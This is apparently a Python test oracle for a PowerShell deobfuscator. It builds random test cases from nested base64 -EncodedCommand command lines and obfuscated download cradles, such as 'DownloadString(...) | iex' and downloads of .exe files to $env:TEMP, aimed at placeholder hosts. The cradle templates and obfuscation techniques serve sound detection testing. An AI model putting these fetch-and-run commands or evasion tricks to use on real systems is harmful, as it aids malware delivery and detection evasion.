#!/usr/bin/env python3
"""powershell_oracle.py - src/deob/powershell.c against Python's own encoding.

Seeded random cases, each written to a file and run through the driver
(tests/deob/powershell_driver.c, one JSON line per recovered string):

  encoded   random scripts nested 1-3 levels deep in `powershell -enc`
            command lines (random host spelling, options, prefix of
            -EncodedCommand, case, quoting, cmd /c, carets), encoded here
            with base64 + UTF-16LE: the "powershell -EncodedCommand"
            strings must be exactly Python's scripts, every level; with
            --depth 1 only the first two levels, and the limit "depth";
  folded    random URLs built by Python, obfuscated by random
            compositions of [char] casts, concatenation, -f, -join over
            [char[]] and over ForEach-Object, -bxor, reversal by index,
            .Replace/-replace of a marker, [string]::Join, variables and
            FromBase64String; sometimes inside an EncodedCommand: the URL
            must be among the recovered strings.

Usage: powershell_oracle.py --driver PATH WORKDIR [--seed N] [--count N]
Exit 1 on any mismatch (the first few are printed).
"""
import argparse
import base64
import json
import os
import random
import subprocess
import sys

WORDS = ["alpha", "bravo", "charlie", "delta", "echo", "foxtrot", "golf", "hotel",
         "india", "juliet", "kilo", "lima", "mike", "report", "invoice", "update"]


def enc(script):
    return base64.b64encode(script.encode("utf-16le")).decode("ascii")


def sq(s):
    """A single-quoted PowerShell literal."""
    return "'" + s.replace("'", "''") + "'"


def dq(s):
    """A double-quoted PowerShell literal."""
    out = []
    for ch in s:
        if ch in '`"$':
            out.append("`" + ch)
        else:
            out.append(ch)
    return '"' + "".join(out) + '"'


def rand_script(rng, nonce):
    """A few harmless statements (no 'powershell' in them), unique by nonce."""
    lines = []
    for _ in range(rng.randint(1, 4)):
        k = rng.randrange(6)
        w = " ".join(rng.choice(WORDS) for _ in range(rng.randint(1, 4)))
        if k == 0:
            lines.append("Write-Host " + sq(w))
        elif k == 1:
            lines.append("$%s = %d" % (rng.choice(WORDS), rng.randint(0, 99999)))
        elif k == 2:
            lines.append("Start-Sleep -s %d" % rng.randint(1, 9))
        elif k == 3:
            lines.append("$p = Join-Path $env:TEMP " + dq(w.replace(" ", "_") + ".txt"))
        elif k == 4:
            lines.append("Write-Output " + sq("\u3053\u3093\u306b\u3061\u306f " + w))
        else:
            lines.append("Get-ChildItem | Where-Object { $_.Length -gt %d }" % rng.randint(1, 999))
    lines.insert(rng.randrange(len(lines) + 1), "# case %d" % nonce)
    sep = rng.choice(["\n", "\r\n", "; "])
    return sep.join(lines)


def rand_case(rng, s):
    return "".join(c.upper() if rng.random() < 0.5 else c.lower() for c in s)


def enc_option(rng):
    name = rng.choice(["ec"] + ["encodedcommand"[:k] for k in range(1, 15)])
    return rng.choice(["-", "-", "/"]) + rand_case(rng, name)


def cmdline(rng, b64):
    """A command line that runs b64 as -EncodedCommand."""
    host = rng.choice(["powershell", "powershell.exe", "PowerShell.EXE", "pwsh",
                       "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
                       "\"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe\""])
    opts = []
    for o in rng.sample(["-nop", "-NoProfile", "-w hidden", "-WindowStyle Hidden",
                         "-NonInteractive", "-noni", "-ep bypass",
                         "-ExecutionPolicy Bypass", "-NoLogo", "-sta"], rng.randint(0, 3)):
        opts.append(rand_case(rng, o) if rng.random() < 0.3 else o)
    arg = b64
    q = rng.randrange(3)
    if q == 1:
        arg = '"' + b64 + '"'
    elif q == 2:
        arg = "'" + b64 + "'"
    line = " ".join([host] + opts + [enc_option(rng), arg])
    w = rng.randrange(4)
    if w == 1:
        line = "cmd.exe /c " + line
    elif w == 2:
        line = 'cmd /c "' + line.replace('"', "") + '"'
    elif w == 3 and q == 0:
        # cmd's carets in the host name
        line = "cmd /c " + "^".join(host.replace('"', "")) + line[len(host):]
    return line


def case_encoded(rng, nonce):
    levels = rng.randint(1, 3)
    scripts = [rand_script(rng, nonce * 10 + i) for i in range(levels)]
    # the innermost script stands alone; each outer one runs the next
    texts = [None] * levels
    texts[levels - 1] = scripts[levels - 1]
    for i in range(levels - 2, -1, -1):
        line = cmdline(rng, enc(texts[i + 1]))
        texts[i] = scripts[i] + rng.choice(["\n", "; "]) + line.replace("cmd /c \"", "cmd /c \"")
    top = cmdline(rng, enc(texts[0]))
    if rng.random() < 0.2:
        top = "Shell(\"" + top.replace('"', "") + "\", 0)"
    return top, texts


# --- obfuscated URLs ------------------------------------------------------------

def rand_url(rng):
    host = ".".join("".join(rng.choice("abcdefghijklmnopqrstuvwxyz0123456789")
                            for _ in range(rng.randint(2, 9))) for _ in range(rng.randint(1, 3)))
    host += rng.choice([".example", ".test", ".invalid"])
    path = "/".join("".join(rng.choice("abcdefghijklmnopqrstuvwxyzABCDEFGHIJ0123456789-_")
                            for _ in range(rng.randint(1, 8))) for _ in range(rng.randint(1, 3)))
    url = rng.choice(["http", "https"]) + "://" + host + "/" + path
    if rng.random() < 0.3:
        url += "." + rng.choice(["exe", "ps1", "dll", "php"])
    if rng.random() < 0.2:
        url += "?id=%d&k=%s" % (rng.randint(0, 9999), rng.choice(WORDS))
    return url


def split_pieces(rng, s, maxn):
    n = min(len(s), rng.randint(1, maxn))
    cuts = sorted(rng.sample(range(1, len(s)), n - 1)) if n > 1 else []
    out, prev = [], 0
    for c in cuts + [len(s)]:
        out.append(s[prev:c])
        prev = c
    return out


class Obf:
    def __init__(self, rng):
        self.rng = rng
        self.pre = []       # statements before the use
        self.nvar = 0

    def var(self, expr):
        self.nvar += 1
        name = "$%s%d" % (self.rng.choice(["a", "x", "tmp", "Q"]), self.nvar)
        self.pre.append("%s = %s" % (name, expr))
        return name

    def expr(self, s, depth):
        """A PowerShell expression (parenthesised as needed) yielding s."""
        rng = self.rng
        k = rng.randrange(12) if depth < 2 and len(s) > 1 else rng.randrange(2)
        if k == 0:
            return sq(s)
        if k == 1:
            return dq(s)
        if k == 2:
            return "([string]" + "+".join("[char]%s" % self.num(ord(c)) for c in s) + ")"
        if k == 3:
            parts = split_pieces(rng, s, 5)
            return "(" + "+".join(self.expr(p, depth + 1) for p in parts) + ")"
        if k == 4:
            parts = split_pieces(rng, s, 6)
            order = list(range(len(parts)))
            rng.shuffle(order)
            fmt = "".join("{%d}" % order.index(i) for i in range(len(parts)))
            args = ",".join(self.expr(parts[order[j]], depth + 1) for j in range(len(parts)))
            return "(" + rng.choice(['"%s"', "'%s'"]) % fmt + " " + \
                rng.choice(["-f", "-F"]) + " " + args + ")"
        if k == 5:
            codes = ",".join(self.num(ord(c)) for c in s)
            return rng.choice(["([char[]](%s) -join '')", "(-join [char[]](%s))",
                               "([string]::Join('', [char[]](%s)))"]) % codes
        if k == 6:
            codes = ",".join(str(ord(c)) for c in s)
            return "(((%s) | %s {[char]$_}) -join '')" % (
                codes, rng.choice(["%", "ForEach-Object", "foreach"]))
        if k == 7:
            key = rng.randint(1, 127)
            codes = ",".join(str(ord(c) ^ key) for c in s)
            return "(((%s) | %% {[char]($_ -bxor %d)}) -join '')" % (codes, key)
        if k == 8:
            return "(%s[-1..-%d] -join '')" % (sq(s[::-1]), len(s))
        if k == 9:
            marker = rng.choice(["~#~", "QZJX", "@@", "%%"])
            junk = marker.join(split_pieces(rng, s, 4))
            if rng.random() < 0.5:
                return "(%s.Replace(%s,''))" % (sq(junk), sq(marker))
            return "(%s -replace %s,'')" % (sq(junk), sq(marker))
        if k == 10:
            return self.var(self.expr(s, depth + 1))
        b = base64.b64encode(s.encode("utf-8")).decode()
        return "([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String(%s)))" % sq(b)

    def num(self, n):
        return hex(n) if self.rng.random() < 0.3 else str(n)


def case_folded(rng):
    url = rand_url(rng)
    o = Obf(rng)
    e = o.expr(url, 0)
    use = rng.choice([
        "(New-Object Net.WebClient).DownloadString(%s) | iex",
        "IEX (New-Object Net.WebClient).DownloadString(%s)",
        "$u = %s\n(New-Object System.Net.WebClient).DownloadFile($u, \"$env:TEMP\\x.exe\")",
        "Invoke-WebRequest -Uri (%s) -OutFile $env:TEMP\\a.exe",
        "Start-BitsTransfer -Source %s -Destination x",
    ]) % e
    script = "\n".join(o.pre + [use])
    if rng.random() < 0.25:
        return cmdline(rng, enc(script)), url
    return script, url


# --- running ------------------------------------------------------------------------

def run(driver, files, extra=()):
    out = subprocess.run([driver, *extra, *files], check=True, capture_output=True,
                         timeout=600).stdout.decode("utf-8")
    res = {f: {"strs": [], "limit": None} for f in files}
    for line in out.splitlines():
        j = json.loads(line)
        if "limit" in j:
            res[j["file"]]["limit"] = j["limit"]
        else:
            res[j["file"]]["strs"].append((j["how"], j["value"]))
    return res


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--driver", required=True)
    ap.add_argument("--seed", type=int, default=18)
    ap.add_argument("--count", type=int, default=200)
    ap.add_argument("workdir")
    args = ap.parse_args()
    os.makedirs(args.workdir, exist_ok=True)
    rng = random.Random(args.seed)
    fails = []

    def fail(msg):
        fails.append(msg)
        if len(fails) <= 5:
            print("FAIL " + msg, file=sys.stderr)

    # encoded commands
    enc_cases = {}
    for i in range(args.count):
        text, scripts = case_encoded(rng, i)
        path = os.path.join(args.workdir, "enc%04d.txt" % i)
        with open(path, "w", encoding="utf-8", newline="") as f:
            f.write(text)
        enc_cases[path] = (text, scripts)
    res = run(args.driver, list(enc_cases))
    res1 = run(args.driver, list(enc_cases), ("--depth", "1"))
    for path, (text, scripts) in enc_cases.items():
        got = [v for h, v in res[path]["strs"] if h == "powershell -EncodedCommand"]
        if got != scripts:
            fail("%s: %r\n  decoded %r\n  want    %r" % (path, text[:200], got, scripts))
        if res[path]["limit"] is not None:
            fail("%s: limit %s" % (path, res[path]["limit"]))
        got1 = [v for h, v in res1[path]["strs"] if h == "powershell -EncodedCommand"]
        want1 = scripts[:2]
        want_limit = "depth" if len(scripts) >= 2 else None
        if got1 != want1 or res1[path]["limit"] != want_limit:
            fail("%s --depth 1: decoded %r limit %r, want %r limit %r" % (
                path, got1, res1[path]["limit"], want1, want_limit))

    # folded URLs
    url_cases = {}
    for i in range(args.count):
        text, url = case_folded(rng)
        path = os.path.join(args.workdir, "url%04d.txt" % i)
        with open(path, "w", encoding="utf-8", newline="") as f:
            f.write(text)
        url_cases[path] = (text, url)
    res = run(args.driver, list(url_cases))
    for path, (text, url) in url_cases.items():
        values = [v for h, v in res[path]["strs"]]
        if url not in values:
            fail("%s: %r\n  recovered %r\n  want %r" % (path, text[:400], values, url))

    n = len(enc_cases) + len(url_cases)
    print("powershell oracle: %d cases, %d failures" % (n, len(fails)))
    return 1 if fails else 0


if __name__ == "__main__":
    sys.exit(main())
